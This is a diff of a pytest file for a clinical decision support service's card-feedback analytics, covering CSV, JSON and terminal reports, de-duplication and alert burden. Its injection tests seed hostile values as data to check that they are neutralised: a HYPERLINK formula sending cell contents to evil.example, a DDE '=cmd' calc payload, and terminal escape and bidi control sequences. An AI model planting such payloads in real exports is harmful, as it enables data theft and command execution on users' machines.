@@ -5,14 +5,17 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
+import sqlalchemy as sa
 
 from cds_service import cli
 from cds_service.analytics import MAX_PERIOD_DAYS, Period, PeriodError, build_report, main
 from cds_service.store import ServedCard, Store
+from cds_service.tables import served_cards
 
 PV, OS = "lbp-patient-view", "lbp-imaging-order-select"
 SINCE, UNTIL = "2026-03-02", "2026-03-15"  # two whole ISO weeks (Monday to Sunday)
@@ -161,7 +164,8 @@ def test_json_endpoint_matches_the_report(make_app, seeded_url: str) -> None:
     body = client.get(f"/console/api/analytics?since={SINCE}&until={UNTIL}").get_json()
     assert body["period"] == {"since": SINCE, "until": UNTIL}
     assert body["totals"] == {"served": 5, "accepted": 2, "overridden": 2, "noAnswer": 1, "acceptanceRate": 0.4,
-                              "overrideRate": 0.4, "unknownCardFeedback": 1}
+                              "overrideRate": 0.4, "unknownCardFeedback": 1, "servedRows": 5,
+                              "silentWouldHaveShown": 0, "suppressed": 0}
     axspa = next(t for t in body["topics"] if t["topic"] == "axspa-referral")
     assert axspa["display"].startswith("Suspected axial spondyloarthritis")  # from the card files
     assert (axspa["served"], axspa["accepted"], axspa["acceptanceRate"]) == (4, 2, 0.5)
@@ -186,7 +190,7 @@ def test_csv_endpoint(make_app, seeded_url: str) -> None:
     assert f"card-feedback-{SINCE}-{UNTIL}.csv" in response.headers["Content-Disposition"]
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
     assert [(r["service_id"], r["topic"], r["served"], r["accepted"], r["acceptance_rate"]) for r in rows] == [
-        (PV, "axspa-referral", "4", "2", "0.5000"), (OS, "imaging-not-indicated", "1", "0", "0.0000")]
+        (PV, "axspa-referral", "4", "2", "0.5"), (OS, "imaging-not-indicated", "1", "0", "0.0")]
     assert rows[0]["override_reasons"] == "Alternative-Diagnosis (1)"
 
 
@@ -202,7 +206,7 @@ def test_cli_report_prints_and_writes_csv(seeded_url: str, tmp_path: Path, capsy
     printed = capsys.readouterr().out
     assert f"cards served {SINCE} to {UNTIL}" in printed
     axspa_line = next(line for line in printed.splitlines() if "axspa-referral" in line and PV in line)
-    assert axspa_line.split()[2:] == ["4", "2", "1", "1", "50.0", "25.0"]
+    assert axspa_line.split()[2:] == ["4", "2", "1", "1", "50.0", "25.0", "0", "0", "4"]
     assert "Alternative-Diagnosis" in printed and "Hip osteoarthritis explains it" in printed
     assert "2026-03-09" in printed
     rows = list(csv.DictReader(out.open(encoding="utf-8")))
@@ -217,3 +221,140 @@ def test_cli_report_json_and_errors(seeded_url: str, capsys: pytest.CaptureFixtu
     assert "since" in capsys.readouterr().err
     with pytest.raises(SystemExit):
         main([])  # --since is required
+
+
+# --------------------------------------------------------------------------------------------
+# Spreadsheet and terminal injection (issue 15 items 5, 6)
+# --------------------------------------------------------------------------------------------
+
+HOSTILE_DISPLAY = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+HOSTILE_COMMENT = "\x1b[2J\x1b]0;owned\x07ok\u202etxt\x9b31m"
+
+
+def _seed_hostile(store: Store) -> None:
+    store.create_schema()
+    for card, display in (("h1", HOSTILE_DISPLAY), ("h2", "+1+1"), ("h3", "-2"), ("h4", "@SUM(A1)"),
+                          ("h5", "\tTab"), ("h6", "Plain")):
+        serve(store, card, PV, "axspa-referral", "2026-03-03T10:00:00")
+        item = {"card": card, "outcome": "overridden", "outcomeTimestamp": "2026-03-03T10:05:00Z",
+                "overrideReason": {"reason": {"system": REASON_SYSTEM, "code": card, "display": display}}}
+        if card == "h1":
+            item["overrideReason"]["userComment"] = HOSTILE_COMMENT
+        store.record_feedback(PV, [item], at("2026-03-03T10:05:00"))
+    serve(store, "h7", PV, "=cmd|' /C calc'!A0", "2026-03-03T10:00:00")  # a hostile topic code too
+
+
+def test_csv_cells_are_neutralised(database_url: str, make_app) -> None:
+    store = Store(database_url)
+    _seed_hostile(store)
+    csv_text = build_report(store.engine, Period.parse(SINCE, UNTIL)).to_csv()
+    store.engine.dispose()
+    served = make_app(database_url=database_url).test_client().get(
+        f"/console/api/analytics.csv?since={SINCE}&until={UNTIL}").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(csv_text)))
+    header, body = rows[0], rows[1:]
+    for text in (csv_text, served):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert len(cells) == len(rows) * len(header)
+        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
+    reasons = body[[r[3] for r in body].index("axspa-referral")][header.index("override_reasons")]
+    assert reasons.startswith("'")  # the first reason's display began with a trigger
+    assert "'=cmd|' /C calc'!A0" in [r[3] for r in body]
+    assert sorted(r[header.index("served")] for r in body) == ["1", "6"]  # numbers stay numbers
+    for line in csv_text.splitlines()[1:]:
+        assert line.startswith('"2026-03-02"')  # text cells quoted
+
+
+def test_terminal_report_has_no_control_characters(database_url: str, capsys: pytest.CaptureFixture) -> None:
+    store = Store(database_url)
+    _seed_hostile(store)
+    store.engine.dispose()
+    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url]) == 0
+    printed = capsys.readouterr().out
+    assert "ok" in printed and "owned" in printed  # the text stays, the controls go
+    assert not [ch for ch in printed if ch != "\n" and (ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F)]
+    assert "\u202e" not in printed
+    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url, "--json"]) == 0
+    assert "\x1b" not in capsys.readouterr().out
+
+
+# --------------------------------------------------------------------------------------------
+# De-duplicated presentations (issue 17 item 4) and receive-time ordering (issue 15 item 4)
+# --------------------------------------------------------------------------------------------
+
+
+def _order_card(card: str, hook_instance: str, order: str, encounter: str | None = None) -> ServedCard:
+    return ServedCard(card, OS, "order-select", hook_instance, "imaging-not-indicated", "warning", (f"{card}-s1",),
+                      order_reference=f"ServiceRequest/{order}", encounter_id=encounter)
+
+
+def test_repeated_cards_for_one_order_are_one_presentation(database_url: str) -> None:
+    store = Store(database_url)
+    store.create_schema()
+    when = at("2026-03-04T09:00:00")
+    # the sandbox re-sends order-select on every edit: three cards for one MRI order in one hook instance
+    store.record_served([_order_card("r1", "hi-1", "mri")], "p1", when)
+    store.record_served([_order_card("r2", "hi-1", "mri")], "p1", when)
+    store.record_served([_order_card("r3", "hi-1", "mri")], "p1", when)
+    # the same order in another hook instance of the same encounter: still the same presentation
+    store.record_served([_order_card("r4", "hi-2", "mri", encounter="enc-1"),
+                         _order_card("r5", "hi-3", "mri", encounter="enc-1")], "p1", when)
+    # another order, and the same order in another hook instance without an encounter: separate
+    store.record_served([_order_card("r6", "hi-1", "ct")], "p1", when)
+    store.record_served([_order_card("r7", "hi-9", "mri")], "p1", when)
+    answer(store, OS, "r2", "overridden", "2026-03-04T09:01:00", reason="patient-specific")
+    answer(store, OS, "r3", "accepted", "2026-03-04T09:02:00")  # same presentation, answered last: accepted
+    answer(store, OS, "r5", "overridden", "2026-03-04T09:03:00", reason="already-referred")
+    report = build_report(store.engine, Period.parse(SINCE, UNTIL))
+    with store.engine.connect() as conn:
+        raw = conn.execute(sa.select(sa.func.count()).select_from(served_cards)).scalar_one()
+    store.engine.dispose()
+    [topic] = report.topics
+    assert raw == 7 and topic.served_rows == 7  # the raw rows stay
+    assert (topic.served, topic.accepted, topic.overridden, topic.no_answer) == (4, 1, 1, 2)
+    assert [(r.code, r.count) for r in topic.reasons] == [("already-referred", 1)]
+    assert [w.served for w in report.weeks] == [4, 0]
+
+
+def test_latest_answer_is_the_last_received_not_the_latest_claimed(database_url: str) -> None:
+    store = Store(database_url)
+    store.create_schema()
+    serve(store, "t1", PV, "axspa-referral", "2026-03-04T09:00:00")
+    store.record_feedback(PV, [{"card": "t1", "outcome": "overridden", "outcomeTimestamp": "2099-12-31T00:00:00Z"}],
+                          at("2026-03-04T09:01:00"))
+    store.record_feedback(PV, [{"card": "t1", "outcome": "accepted", "acceptedSuggestions": [{"id": "t1-s1"}],
+                                "outcomeTimestamp": "2026-03-04T09:00:30Z"}], at("2026-03-04T09:02:00"))
+    [topic] = build_report(store.engine, Period.parse(SINCE, UNTIL)).topics
+    store.engine.dispose()
+    assert (topic.accepted, topic.overridden) == (1, 0)
+
+
+# --------------------------------------------------------------------------------------------
+# Alert burden (issue 17 item 2): shown, silent (would have shown), suppressed, per topic and period
+# --------------------------------------------------------------------------------------------
+
+
+def test_alert_burden_in_report_json_and_csv(database_url: str, capsys: pytest.CaptureFixture,
+                                             tmp_path: Path) -> None:
+    store = Store(database_url)
+    store.create_schema()
+    when = at("2026-03-10T08:00:00")
+    for i, disposition in enumerate(["shown", "shown", "silent", "silent", "silent", "suppressed"]):
+        store.record_served([ServedCard(f"d{i}", PV, "patient-view", f"hi-d{i}", "axspa-referral", "info",
+                                        (f"d{i}-s1",), disposition=disposition)], "p1", when)
+    answer(store, PV, "d0", "overridden", "2026-03-10T08:01:00", reason="patient-declines")
+    answer(store, PV, "d2", "accepted", "2026-03-10T08:01:00")  # a silent card cannot be answered for real
+    store.engine.dispose()
+    out = tmp_path / "burden.csv"
+    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url, "--csv", str(out)]) == 0
+    printed = capsys.readouterr().out
+    line = next(row for row in printed.splitlines() if row.strip().startswith(PV))
+    # served accepted overridden no-answer accepted% overridden% silent suppressed rows
+    assert line.split()[2:] == ["2", "0", "1", "1", "0.0", "50.0", "3", "1", "2"]
+    burden = printed.split("Alert burden by topic and week")[1]
+    assert burden.split("\n")[3].split() == ["axspa-referral", "2026-03-09", "2", "3", "1", "0", "1"]
+    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert (row["served"], row["silent_would_have_shown"], row["suppressed"]) == ("2", "3", "1")
+    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url, "--json"]) == 0
+    topic = json.loads(capsys.readouterr().out)["topics"][0]
+    assert (topic["served"], topic["silentWouldHaveShown"], topic["suppressed"], topic["overridden"]) == (2, 3, 1, 1)
